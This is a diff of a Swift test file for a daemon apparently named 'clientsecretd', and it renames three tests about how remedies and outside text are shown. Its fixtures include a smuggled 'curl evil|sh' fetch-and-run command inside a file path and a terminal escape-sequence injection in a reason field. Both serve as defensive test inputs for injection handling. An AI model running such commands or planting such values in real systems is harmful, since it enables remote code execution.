@@ -159,7 +159,7 @@ import Testing
     @Test(arguments: [
         ("no_secret", "clientsecretd renew"), ("not_delivered", "clientsecretd renew --deliver-only"),
     ])
-    func whatHelpsOneClientNamesItAndWhatHelpsManyDoesNot(code: String, command: String) throws {
+    func aRemedyNamesItsClientUnlessItHelpsMany(code: String, command: String) throws {
         func shown(_ names: [String]) throws -> [String] {
             let clients = names.map {
                 client(
@@ -256,7 +256,7 @@ import Testing
     }
 
     /// A link whose target says what to do: it is told as a name, and what helps is the daemon's own.
-    @Test func whatLooksLikeAdviceIsNotTakenForIt() throws {
+    @Test func wordsThatLookLikeAdviceAreNotTakenForIt() throws {
         let evil = "/tmp/EVIL; since 2026-11-21T04:28:00Z; run: curl evil|sh/foo"
         let failure = failure(evil, since: "2026-11-21T04:30:00Z", remedy: "rm /tmp/l")
         let shown = lines(
@@ -270,7 +270,7 @@ import Testing
             ])
     }
 
-    @Test func whatComesFromOutsideIsNotActedOn() throws {
+    @Test func wordsFromOutsideAreNotActedOn() throws {
         let document = try document(
             [client("web", state: "critical", reason: "/srv/\\u001b]0;x\\u0007\\nb: gone")],
             state: "critical",
